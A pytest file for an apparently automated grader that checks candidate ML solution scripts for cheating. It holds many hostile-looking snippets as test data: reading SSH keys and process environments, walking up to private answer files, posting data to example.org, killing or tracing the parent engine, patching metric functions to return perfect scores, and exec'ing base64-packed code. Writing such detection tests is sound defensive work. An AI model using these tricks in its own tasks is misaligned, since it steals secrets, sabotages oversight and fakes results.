from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest

from assay.core.candidate import Candidate
from assay.core.profile import DataProfile
from assay.grading import (
    Blend,
    PredictionStats,
    Severity,
    blend_script,
    check_candidate,
    check_predictions,
    check_script,
)
from assay.grading.checks.script import Script
from support.gradings import a_task

TASK = a_task(Path("/somewhere"))

CHEATS: list[tuple[str, str, str]] = [
    ("absolute answers", "L01", 'import pandas as pd\ny = pd.read_csv("/work/run/private/answers.csv")'),
    ("up and over", "L01", 'import pandas as pd\ny = pd.read_csv("../../private/fold-0.csv")'),
    ("up by joining", "L01", 'import os\np = os.path.join("..", "..", "private", "x.csv")\nopen(p)'),
    ("up by pathlib", "L01", 'from pathlib import Path\nopen(Path("input") / ".." / ".." / "events.jsonl")'),
    ("another trial", "L01", 'open("../../0007-ridge/output/submission.csv", "w").write("id,target")'),
    ("the engine's memory", "L01", 'import os\nopen(f"/proc/{os.getppid()}/mem", "rb")'),
    ("the engine's environment", "L12", 'open("/proc/1/environ").read()'),
    ("up by way of an absolute path", "L01", 'import os\np = os.path.join(os.path.abspath(".."), "..", "private")'),
    ("up by pathlib to any name", "L01", 'from pathlib import Path\nfor n in names: print(open(Path("..") / n))'),
    ("keys of the user", "L01", 'open("/root/.ssh/id_rsa").read()'),
    ("search the disk", "L01", 'import glob\nfor p in glob.glob("/**/answers.csv", recursive=True): print(p)'),
    ("search the homes", "L01", 'import os\nfor root, _, files in os.walk("/home"): print(files)'),
    ("search beside and above", "L01", 'import os\nos.listdir("../input")\nos.listdir("..")'),
    ("search above", "L01", 'import os\nfor root, _, files in os.walk(".."): print(files)'),
    ("rglob from the root", "L01", 'from pathlib import Path\nprint(list(Path("/").rglob("*answers*")))'),
    ("answers in the input", "L04", 'import pandas as pd\ny = pd.read_csv("input/test_labels.csv")'),
    ("answers by open", "L04", 'print(1)\nopen("input/other.csv")\nf = open("input/answers.csv")'),
    ("answers as an array", "L04", 'import numpy as np\ny = np.genfromtxt("input/test_labels.csv")'),
    ("ground truth", "L04", 'import numpy as np\ny = np.load("./private/ground_truth.npy")'),
    ("send by socket", "L05", 'import socket\ns = socket.socket()\ns.connect(("10.0.0.1", 80))'),
    ("send by requests", "L05", 'import requests\nrequests.post("https://example.org", data=open("input/train.csv"))'),
    ("ask a port", "L05", 'import socket\ns = socket.socket()\ns.connect_ex(("10.0.0.1", 80))'),
    ("send a datagram", "L05", 'import socket\ns = socket.socket()\ns.sendto(b"x", ("10.0.0.1", 80))'),
    ("send by a socket without a name", "L05", 'import socket\nsocket.socket().connect(("10.0.0.1", 80))'),
    ("fetch by urllib", "L05", 'from urllib.request import urlopen as get\nget("http://example.org/answers.csv")'),
    ("trace", "L05", 'import ctypes, os\nlibc = ctypes.CDLL("libc.so.6")\nlibc.ptrace(16, os.getppid(), 0, 0)'),
    ("stop the engine", "L05", "import os, signal\nboss = os.getppid()\nos.kill(boss, signal.SIGSTOP)"),
    ("kill by the C library", "L05", 'import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nlibc.kill(1, 9)'),
    ("stop all that the engine started", "L05", "import os\nos.killpg(os.getppid(), 9)"),
    ("look into the engine", "L05", "import os, psutil\nprint(psutil.Process(os.getppid()).open_files())"),
    ("kill everyone", "L05", "import os\nos.kill(-1, 9)"),
    ("environment of all", "L05", "import psutil\nfor p in psutil.process_iter(): print(p.environ())"),
    ("patched metric", "L06", "import sklearn.metrics\nsklearn.metrics.roc_auc_score = lambda y, p: 1.0"),
    ("patched by alias", "L06", "from sklearn import metrics as m\nm.f1_score = lambda *a, **k: 1.0"),
    ("patched by setattr", "L06", 'import sklearn.metrics as m\nsetattr(m, "log_loss", lambda *a: 0.0)'),
    ("patched writer", "L06", 'import pandas as pd\nsetattr(pd.DataFrame, "to_csv", lambda *a: None)'),
    ("patched object", "L06", 'import numpy\nfrom unittest import mock\nmock.patch.object(numpy, "isfinite", f)'),
    ("patched by mock", "L06", 'from unittest import mock\nmock.patch("sklearn.metrics.accuracy_score").start()'),
    ("replaced module", "L06", 'import sys, types\nsys.modules["sklearn.metrics"] = types.ModuleType("m")'),
    ("patched by mock without unittest", "L06", 'import mock\nmock.patch("sklearn.metrics.f1_score").start()'),
    ("patched object by default", "L06", 'import numpy\nfrom unittest import mock\nmock.patch.object(numpy, "isnan")'),
    ("Assay itself", "L06", "import assay"),
    ("the grader itself", "L06", "from assay.grading.metrics import compute"),
    (
        "target among the features",
        "L03",
        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\n'
        'X = train[["age", "target"]]\nmodel.fit(X, train["target"])',
    ),
    (
        "whole frame as features",
        "L03",
        'import pandas as pd\nTARGET = "target"\ntrain = pd.read_csv("input/train.csv")\n'
        "y = train[TARGET]\nmodel.fit(train, y)",
    ),
    (
        "target in a list that has a name",
        "L03",
        'columns = ["age", "target"]\nothers.pop()\ncolumns.sort()\n'
        'scaler.fit_transform(train[columns], train["target"], weights)',
    ),
    (
        "whole frame, beside a narrower one",
        "L03",
        'import pandas as pd\ntrain = pd.read_csv("train.csv")\ndel other["target"]\nmodel.fit(train, train["target"])',
    ),
    (
        "whole frame, sorted by another column",
        "L03",
        'import pandas as pd\ntrain = pd.read_csv("train.csv")\ntrain.sort_values(by="age")\n'
        'model.fit(train, train["target"])',
    ),
    (
        "target mean before the split",
        "L02",
        "import pandas as pd\nfrom sklearn.model_selection import train_test_split\n"
        'train = pd.read_csv("input/train.csv")\nmeans = train.groupby("city")["target"].mean()\n'
        'train["city_mean"] = train["city"].map(means)\na, b = train_test_split(train)',
    ),
    (
        "target mean by transform",
        "L02",
        'import pandas as pd\nfrom sklearn.model_selection import KFold\ntrain = pd.read_csv("input/train.csv")\n'
        'train["m"] = train.groupby("city")["target"].transform("mean")\n'
        "for a, b in KFold(5).split(train): pass",
    ),
    (
        "target median by agg before a split that has a name",
        "L02",
        "import pandas as pd\nfrom sklearn.model_selection import KFold\ntrain = pd.read_csv('input/train.csv')\n"
        'train["m"] = train["city"].map(train.groupby("city")["target"].agg("median"))\n'
        "folds = KFold(5)\nfor a, b in folds.split(train): pass",
    ),
    (
        "target mean by aggregate before a shuffled split",
        "L02",
        'import pandas as pd\ntrain = pd.read_csv("train.csv")\n'
        'train["m"] = train.groupby("city")["target"].aggregate("mean")\nStratifiedShuffleSplit(5).split(train)',
    ),
    (
        "target mean before a split by time",
        "L02",
        'import pandas as pd\ntrain = pd.read_csv("train.csv")\n'
        'train["m"] = train.groupby("city")["target"].mean()\nTimeSeriesSplit(5).split(train)',
    ),
    (
        "foreign target encoder with a name",
        "L02",
        "import category_encoders as ce\nfrom sklearn.model_selection import cross_val_score\n"
        "encoder = ce.TargetEncoder()\nX2 = encoder.fit_transform(X, y)\nprint(cross_val_score(model, X2, y))",
    ),
    (
        "foreign target encoder before the split",
        "L02",
        "import category_encoders as ce\nfrom sklearn.model_selection import cross_val_score\n"
        "X2 = ce.TargetEncoder().fit_transform(X, y)\nprint(cross_val_score(model, X2, y))",
    ),
    ("a key by get", "L12", 'import os\nprint(len(os.environ.get("DB_PASSWORD")))'),
    ("a key by getenv", "L12", 'import os\nprint(len(os.getenv("OPENAI_API_KEY")))'),
    ("a key", "L12", 'import os\nprint(len(os.environ["OPENAI_API_KEY"]))'),
    ("the whole environment", "L12", "import os\nprint(dict(os.environ))"),
    ("a link as output", "L13", 'import os\nos.symlink("/data/answers.csv", "output/submission.csv")'),
    ("a FIFO as output", "L13", 'import os\nos.mkfifo("./output/submission.csv")'),
    ("a link by pathlib", "L13", 'from pathlib import Path\nPath("output/submission.csv").symlink_to("x.csv")'),
    ("a FIFO by name", "L13", 'import os\nos.mkfifo(path="output/submission.csv")'),
    ("a link with three arguments", "L13", 'import os\nos.symlink("/x.csv", "output/submission.csv", False)'),
    ("a link by name", "L13", 'import os\nos.link(src="x.csv", dst="./output/submission.csv")'),
    ("unpacked by an object", "L14", "import zlib\nprint(1)\nexec(zlib.decompressobj().decompress(DATA))"),
    ("unpacked beforehand", "L14", "from zlib import decompress\ncode = decompress(DATA)\nexec(code)"),
    ("packed expression", "L14", "import base64\nx = eval(base64.b64decode(X))"),
    ("packed code by builtins", "L14", "import base64, builtins\nbuiltins.exec(base64.b64decode(X))"),
    ("packed expression by builtins", "L14", "import base64, builtins\nx = builtins.eval(base64.b64decode(X))"),
    ("packed code", "L14", 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'),
]

HONEST: list[tuple[str, str]] = [
    ("plain", 'import pandas as pd\nt = pd.read_csv("./input/train.csv")\nt.to_csv("./output/submission.csv")'),
    ("reads every input", 'from pathlib import Path\nfor p in Path("input").rglob("*"): print(p, p.stat().st_size)'),
    ("temporary files", 'open("/tmp/cache.bin", "wb").write(b"x")\nopen("/dev/null", "w")'),
    ("habit of another site", 'import os\nROOT = "../input/" if os.path.exists("../input") else "input/"'),
    ("a fallback folder", 'import os\nbase = "/kaggle/input/x" if os.path.isdir("/kaggle/input/x") else "./input"'),
    ("asks for cores and memory", 'open("/proc/meminfo").read()\nopen("/proc/self/status").read()'),
    ("inner up and down", 'import pandas as pd\npd.read_csv("./input/side/../train.csv")'),
    (
        "texts with slashes",
        'import re\nx = re.sub("/home/", "", t)\ny = "and/or"\nz = "http://a/../b"\nfmt = "%d/%m/%Y"',
    ),
    ("a sentence with dots", 'NOTE = "../../private is none of ours"\nMORE = "..."\nURL = "../../x://y"'),
    ("docstring", '"""Reads ../../private/answers.csv? No, never /etc/shadow."""\nx = 1'),
    ("message", 'print("looked into ../../private/answers.csv: not there")'),
    ("an error", 'raise ValueError("no ../../private/answers.csv")'),
    ("free memory", 'import ctypes\nctypes.CDLL("libc.so.6").malloc_trim(0)'),
    ("own processes", "import multiprocessing as mp\nwith mp.Pool(2) as p: p.map(f, x)"),
    (
        "own memory",
        "import psutil, os\nprint(psutil.Process(os.getpid()).memory_info().rss, psutil.Process().cpu_times())",
    ),
    (
        "own members",
        'import subprocess, sys\nsubprocess.run([sys.executable, "solution.py"], cwd="members/1", check=True)',
    ),
    ("a database", 'import sqlite3\ndb = sqlite3.connect("cache.db")\nengine.connect("host", 80)\ndb.connect(other)'),
    ("host name", "import socket\nprint(socket.gethostname())"),
    ("local server", 'import requests\nrequests.get("http://localhost:8080/ping")'),
    ("kills its child", "import os, subprocess\np = subprocess.Popen(['sleep', '1'])\nos.kill(p.pid, 9)"),
    ("thread counts", 'import os\nos.environ["OMP_NUM_THREADS"] = "2"\nprint(os.environ.get("HOME"))'),
    ("one variable", 'import os\nprint(os.environ["HOME"], os.environ.get("LANG"), "CI" in os.environ)'),
    (
        "keys of tracking",
        'import os\nos.getenv("WANDB_API_KEY")\nos.environ.get("HF_API_KEY")\nos.getenv("HUGGINGFACE_API_KEY")\n'
        'os.getenv()\nprint(os.environ.pop("A", ""), os.environ.setdefault("B", "1"))',
    ),
    ("environment for a child", "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ, A='1'))"),
    ("no tracking", 'import os\nos.environ["WANDB_API_KEY"] = ""\nos.environ.setdefault("HF_TOKEN", "")'),
    ("own metric object", "class M: pass\nmetric = M()\nmetric.f1_score = 3\nmodel.metric = 'auc'"),
    ("accelerated library", "from sklearnex import patch_sklearn\npatch_sklearn()"),
    (
        "target encoding inside a fold",
        "import pandas as pd\nfrom sklearn.model_selection import KFold\n"
        'train = pd.read_csv("input/train.csv")\nfor a, b in KFold(5).split(train):\n'
        '    part = train.iloc[a]\n    m = part.groupby("city")["target"].mean()\n'
        '    enc = train.iloc[b]["city"].map(m)',
    ),
    (
        "a look at the means",
        "import pandas as pd\nfrom sklearn.model_selection import train_test_split\n"
        'train = pd.read_csv("input/train.csv")\nprint(train.groupby("city")["target"].mean())\n'
        "train_test_split(train)",
    ),
    (
        "count encoding before the split",
        "import pandas as pd\nfrom sklearn.model_selection import train_test_split\n"
        'train = pd.read_csv("input/train.csv")\n'
        'train["n"] = train.groupby("city")["id"].transform("count")\n'
        "train_test_split(train)",
    ),
    (
        "mean of another column before the split",
        "import pandas as pd\nfrom sklearn.model_selection import train_test_split\n"
        'train = pd.read_csv("input/train.csv")\n'
        'train["n"] = train.groupby("city")["age"].transform("mean")\n'
        "train_test_split(train)",
    ),
    (
        "cross-fitting encoder",
        "from sklearn.preprocessing import TargetEncoder\nfrom sklearn.model_selection import cross_val_score\n"
        "X2 = TargetEncoder().fit_transform(X, y)\ncross_val_score(m, X2, y)",
    ),
    (
        "scaling train and test together",
        "import pandas as pd\nfrom sklearn.preprocessing import StandardScaler\n"
        "both = StandardScaler().fit_transform(pd.concat([train, test]))\ntrain_test_split(both)",
    ),
    (
        "target popped off",
        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\ny = train.pop("target")\nmodel.fit(train, y)',
    ),
    (
        "target dropped in place",
        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\ny = train["target"]\n'
        'train.drop(columns=["target"], inplace=True)\nmodel.fit(train, y)',
    ),
    (
        "target deleted",
        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\ny = train["target"]\n'
        "del y, train['target']\nmodel.fit(train, y)",
    ),
    (
        "target popped later",
        'import pandas as pd\ntrain = pd.read_csv("train.csv")\ny = train["target"]\n'
        'train.pop("target")\nmodel.fit(train, y)',
    ),
    ("a table that nobody knows", 'train = made("input/train.csv")\nmodel.fit(train, train["target"])'),
    (
        "no split but of texts",
        'import pandas as pd\ntrain = pd.read_csv("train.csv")\n'
        'train["m"] = train.groupby("city")["target"].transform("mean")\nline.split(",")\ntext().split(",")',
    ),
    (
        "names that nobody knows before the split",
        'import pandas as pd\ntrain = pd.read_csv("train.csv")\ntrain["m"] = train["city"].map(codes)\n'
        "encoder.fit_transform(X, y)\nparts.first.fit_transform(X, y)\ncross_val_score(m, X, y)",
    ),
    ("a child of its own", 'import ctypes\nctypes.CDLL("libc.so.6").malloc_trim(0)\nchild.kill()\nkill(child)'),
    ("a server of its own", 'import socket\ns = socket.socket()\ns.connect(("localhost", 80))'),
    (
        "functions that are only shown",
        'import sklearn.metrics as m\nfrom unittest import mock\nplot(m, "f1_score", 3)\nplot(m, "f1_score")\n'
        "mock.patch.object(m)",
    ),
    ("data that is packed", "import base64\nprint(base64.b64decode(X))\nexec()"),
    (
        "own answers in other forms",
        "import joblib\nimport numpy as np\nfrom pathlib import Path\n"
        'np.save("a/answers.npy", y)\nnp.load("a/answers.npy")\n'
        'joblib.dump(y, "a/answers.pkl")\njoblib.load("a/answers.pkl")\nd.write_csv("a/answers.csv")\n'
        'pl.read_csv("a/answers.csv")\nPath("a/answers.txt").write_text("x")\nopen("a/answers.txt")',
    ),
    (
        "labels of unknown origin",
        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\ny = made(train)\nmodel.fit(train, y)',
    ),
    (
        "mean of another table before the split",
        "import pandas as pd\nfrom sklearn.model_selection import train_test_split\n"
        'train = pd.read_csv("input/train.csv")\nold = pd.read_csv("input/old.csv")\n'
        'train["m"] = train["city"].map(old.groupby("city")["target"].mean())\ntrain_test_split(train)',
    ),
    (
        "target taken off the list by place",
        'cols = ["a", "target"]\ncols.pop()\nmodel.fit(train[cols], train["target"])',
    ),
    ("texts that swap", 'import os\na = b + str(a)\nb = f"{a}"\nc = os.path.join(c, str(c) + a)\nopen(a + c)'),
    ("features that swap", "a = b\nb = a\nmodel.fit(a, y)"),
    ("columns that nobody knows", 'model.fit(train[columns], train["target"])'),
    ("names that swap", "last = line\nline = last\nparts = line.split(',')"),
    (
        "labels that swap",
        "import pandas as pd\ntrain = pd.read_csv('input/train.csv')\na = b\nb = a\nmodel.fit(train, a)",
    ),
    (
        "target removed from the list",
        'cols = ["a", "target"]\ncols.remove("target")\nmodel.fit(train[cols], train["target"])',
    ),
    (
        "lags of the target",
        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\n'
        'train["lag"] = train.groupby("series")["target"].shift(1)\nmodel.fit(train[["lag"]], train["target"])',
    ),
    (
        "fills the target of the test rows",
        'import pandas as pd\ntest = pd.read_csv("input/test.csv")\ntest["target"] = model.predict(test)\n'
        'test[["id", "target"]].to_csv("output/submission.csv")\nprint(test["target"].mean())',
    ),
    (
        "own answers file by open",
        'with open("cache/answers.csv", "w") as f: f.write("1")\nopen("cache/answers.csv").read()\n'
        'open("new/answers.csv", mode="x").write("")\nopen("new/answers.csv")',
    ),
    ("own answers file", 'import pandas as pd\nd.to_csv("cache/answers.csv")\npd.read_csv("cache/answers.csv")'),
    ("labels given by the user", 'import pandas as pd\nlabels = pd.read_csv("input/train_labels.csv")'),
    ("data frame eval", 'd.eval("a = b / c", inplace=True)\nmodel.eval()'),
    ("an exit method", "with pool() as p:\n    p.exit()\nclass A:\n    def exit(self): return self.quit()"),
    ("a link to the input", 'from pathlib import Path\nPath("members/1/input").symlink_to(Path("input").resolve())'),
    ("no Python", "this is { not python"),
]


@pytest.mark.parametrize(("code", "source"), [(c[1], c[2]) for c in CHEATS], ids=[c[0] for c in CHEATS])
def test_a_cheat_is_rejected_by_the_named_check(code: str, source: str) -> None:
    rejecting = [f for f in check_script(source, TASK) if f.severity is Severity.REJECT]
    assert code in {f.code for f in rejecting}
    assert all(f.line >= 1 and f.sentence for f in rejecting)


@pytest.mark.parametrize("source", [h[1] for h in HONEST], ids=[h[0] for h in HONEST])
def test_an_honest_oddity_is_not_rejected(source: str) -> None:
    assert [f for f in check_script(source, TASK) if f.severity is Severity.REJECT] == []


@pytest.mark.parametrize("asked", ["environ()", "open_files()", "memory_maps()", "kill()", "terminate()", "suspend()"])
def test_nothing_is_asked_of_every_process(asked: str) -> None:
    found = check_script(f"import psutil\nfor p in psutil.process_iter():\n    p.{asked}", TASK)
    assert [(f.code, f.line) for f in found if f.severity is Severity.REJECT] == [("L05", 3)]


@pytest.mark.parametrize(
    ("code", "line", "source"),
    [
        ("L01", 1, 'x = open("/home/me/data.csv")'),
        ("L01", 2, 'import os\nos.listdir("../input")'),
        ("L01", 1, 'open("../input/train.csv")'),
        ("L01", 1, 'save("../output")'),
        ("L01", 1, 'enter("..")'),
        ("L01", 1, 'open("~/data.csv")'),
        ("L02", 1, "X = StandardScaler().fit_transform(X)\ncross_val_score(m, X, y)"),
        ("L04", 3, 'import pandas as pd\ntest = pd.read_csv("input/test.csv")\nprint(test["target"].mean())'),
        ("L05", 2, 'print(1)\nget_ipython().run_line_magic("pip", "install x")'),
        ("L05", 2, 'get_ipython().run_line_magic("matplotlib", "inline")\nget_ipython().system("pip install x")'),
        ("L07", 3, "try:\n    f()\nexcept:\n    x = 1"),
        ("L07", 3, "try:\n    f()\nexcept Exception:\n    pass"),
        ("L07", 3, "try:\n    f()\nexcept BaseException:\n    ..."),
        ("L08", 2, "import sys\nsys.exit(0)"),
        ("L08", 2, "import os\nos._exit(0)"),
        ("L08", 2, "import os\nos.abort()"),
        ("L08", 1, "quit()"),
        ("L08", 1, "exit()"),
        ("L09", 0, "print(1)"),
    ],
)
def test_what_may_be_a_mistake_is_only_told(code: str, line: int, source: str) -> None:
    found = check_script(source, TASK)
    assert (code, line) in {(f.code, f.line) for f in found}
    assert {f.severity for f in found} == {Severity.WARN}
    assert all(f.sentence for f in found)


@pytest.mark.parametrize(
    "source",
    [
        'import sys\nif __name__ == "__main__":\n    sys.exit(main())\nopen("output/submission.csv", "w")',
        'try:\n    import lightgbm\nexcept ImportError:\n    lightgbm = None\nopen("output/submission.csv", "w")',
        'try:\n    f()\nexcept Exception as e:\n    print(e)\n    raise\nopen("output/submission.csv", "w")',
        'import os\nNAME = "submission.csv"\nframe.to_csv(os.path.join("output", NAME))',
        'stem = "submission"\nopen(f"output/{stem}.csv", "w")',
        'try:\n    f()\nexcept ValueError:\n    pass\nopen("output/submission.csv", "w")',
        'import logging\nprint("/home/a")\nlogging.info("/home/b")\nopen("output/submission.csv", "w")\n'
        'raise ValueError("/home/c")',
        'import re, warnings\nre.sub("/home/", "", t)\nwarnings.warn("/home/b")\nlogger.info("/home/c")\n'
        'open("output/submission.csv", "w")',
        'import pandas as pd\ntest = pd.read_csv("test.csv")\nother = made()\nprint(test["age"], other["target"])\n'
        'open("output/submission.csv", "w")',
        'import pandas as pd\ntest = pd.read_csv("test.csv")\ntest["target"] = model.predict(test)\n'
        'test[["id", "target"]].to_csv("output/submission.csv")\nprint(test["target"].mean())',
        'get_ipython().run_line_magic("matplotlib", "inline")\npool.system("pip install x")\n'
        'open("output/submission.csv", "w")',
    ],
)
def test_good_habits_are_not_even_warned_about(source: str) -> None:
    assert check_script(source, TASK) == []


def test_a_path_that_is_put_together_is_told_once() -> None:
    found = check_script('open("../../a" + "/b.csv")\nopen("../../c" + "/d.csv")', TASK)
    assert [(f.code, f.line) for f in found] == [("L09", 0), ("L01", 1), ("L01", 2)]


@pytest.mark.parametrize(
    ("expression", "text"),
    [
        ("'a' + 'b'", "ab"),
        ("'a' + unknown", "a{}"),
        ("unknown + 'a'", "{}a"),
        ("unknown + other", None),
        ("Path('a') / unknown", "a/{}"),
        ("f'a{ONE}b{unknown}c'", "a1b{}c"),
        ("f'{unknown}'", "{}"),
        ("os.path.join('a', unknown, 'b')", "a/{}/b"),
        ("os.path.join(unknown)", None),
        ("os.path.join()", None),
        ("os.path.abspath('a')", "a"),
        ("str(unknown)", None),
        ("str('a', 'utf-8')", None),
        ("made('a')", None),
        ("ONE", "1"),
        ("TWICE", None),
        ("1", None),
        ("A8", "deep"),
        ("A9", None),
    ],
)
def test_a_text_is_read_as_far_as_it_is_sure(expression: str, text: str | None) -> None:
    names = "\n".join(f"A{n} = A{n - 1}" for n in range(2, 10))
    script = Script(
        f"import os\nfrom pathlib import Path\nONE = '1'\nTWICE = 'a'\nTWICE = 'b'\nA1 = 'deep'\n{names}\n"
        f"result = {expression}\n"
    )
    assert script.text(script.assigned["result"][0]) == text


def test_the_users_own_files_may_have_any_name() -> None:
    source = 'import pandas as pd\npd.read_csv("input/test_labels.csv")\nopen("output/submission.csv", "w")'
    task = replace(TASK, data=replace(TASK.data, side=("test_labels.csv",)))
    assert check_script(source, task) == []
    assert [f.code for f in check_script(source, TASK)] == ["L04"]
    folder = replace(TASK, data=replace(TASK.data, side=("more/test_labels.csv",)))
    assert check_script(source.replace("input/", "input/more/"), folder) == []
    assert check_script(source.replace("input/", ""), folder) == []


def test_the_entry_comes_first_and_the_profile_knows_the_users_files() -> None:
    candidate = Candidate(
        kind="script",
        files={"helper.py": "quit()", "solution.py": 'import pandas as pd\npd.read_csv("input/test_labels.csv")'},
        entry="solution.py",
    )
    helper = ("L08", 1)
    assert [(f.code, f.line) for f in check_candidate(candidate, TASK)] == [("L09", 0), ("L04", 2), helper]
    profile = DataProfile(train_rows=2, test_rows=2, columns=(), targets=(), files=("test_labels.csv (2 kB)",))
    assert [(f.code, f.line) for f in check_candidate(candidate, TASK, profile)] == [("L09", 0), helper]


def test_what_cannot_be_read_for_its_depth_is_rejected() -> None:
    (found,) = check_script("x = " + "-" * 30_000 + "1", TASK)
    assert (found.code, found.severity, found.line) == ("L14", Severity.REJECT, 0)
    assert found.sentence


def test_every_file_of_a_candidate_is_read() -> None:
    candidate = Candidate(
        kind="script",
        files={
            "solution.py": 'import helper\nopen("output/submission.csv", "w")',
            "helper.py": "import os\nos.kill(os.getppid(), 9)",
            "notes.md": "os.kill(os.getppid(), 9)",
        },
        entry="solution.py",
    )
    found = check_candidate(candidate, TASK)
    assert [(f.code, f.severity, f.line) for f in found] == [("L05", Severity.REJECT, 2)]
    assert found[0].sentence.startswith("helper.py: ")


def test_the_blend_script_passes_every_check() -> None:
    script = blend_script(TASK, Blend(weights={3: 0.75, 5: 0.25}))
    assert check_script(script, TASK) == []


@pytest.mark.parametrize(
    ("stats", "codes"),
    [
        (PredictionStats(rows=100, distinct=1, top_share=1.0), ["L10"]),
        (PredictionStats(rows=5, distinct=1, top_share=1.0), []),
        (PredictionStats(rows=20, distinct=1, top_share=1.0), ["L10"]),
        (PredictionStats(rows=1_001, distinct=2, top_share=0.999), ["L10"]),
        (PredictionStats(rows=900, distinct=2, top_share=0.999), []),
        (PredictionStats(rows=100, distinct=2, top_share=0.97), []),
        (PredictionStats(rows=100, distinct=90, top_share=0.02, same_as="age"), ["L11"]),
        (PredictionStats(rows=20, distinct=20, top_share=0.05, follows_ids=True), ["L11"]),
        (PredictionStats(rows=19, distinct=19, top_share=0.06, follows_ids=True), []),
    ],
)
def test_odd_predictions_are_told(stats: PredictionStats, codes: list[str]) -> None:
    findings = check_predictions(TASK, stats)
    assert [f.code for f in findings] == codes
    assert {(f.severity, f.line) for f in findings} <= {(Severity.WARN, 0)}
    assert all(f.sentence for f in findings)


def test_what_is_predicted_over_and_over_is_called_by_its_name(tmp_path: Path) -> None:
    stats = PredictionStats(rows=100, distinct=1, top_share=1.0)
    for metric, word in (("accuracy", "label"), ("rmse", "value")):
        (finding,) = check_predictions(a_task(tmp_path, metric), stats)
        assert finding.sentence.endswith(f"the same {word}")


IDS = {n: n % 2 for n in range(400)}


@pytest.mark.parametrize(
    "source",
    [
        f"LABELS = {IDS}\ntest['y'] = test['id'].map(LABELS)",
        f"KNOWN = {list(IDS.items())}",
        f"import numpy as np\ny = np.array({[[n, 0.5] for n in range(200)]})",
        f"BITS = '{'01' * 2_000}'",
        f"ALL = {{'train': {IDS}, 'more': {IDS}}}",
        f"GRID = {list(range(301))}",
        f"PAIRS = {dict.fromkeys(range(101), 'a')}",
    ],
)
def test_a_table_of_values_is_flagged_and_not_rejected(source: str) -> None:
    found = [f for f in check_script(source, TASK) if f.code == "L15"]
    assert [f.severity for f in found] == [Severity.WARN]
    assert "values" in found[0].sentence or "characters" in found[0].sentence


@pytest.mark.parametrize(
    "source",
    [
        f"COLUMNS = {[f'feature_{n}' for n in range(250)]}",
        f"GRID = {list(range(300))}",
        f"PAIRS = {dict.fromkeys(range(100), 'a')}",
        f"ORDER = {dict.fromkeys(('Ex', 'Gd', 'TA', 'Fa', 'Po'), 1)}",
        f"STOP = {[f'word{n}' for n in range(300)]}",
        f'"""{"A long account of what this does. " * 200}"""',
    ],
)
def test_lists_of_names_and_settings_are_no_tables(source: str) -> None:
    assert [f for f in check_script(source, TASK) if f.code == "L15"] == []
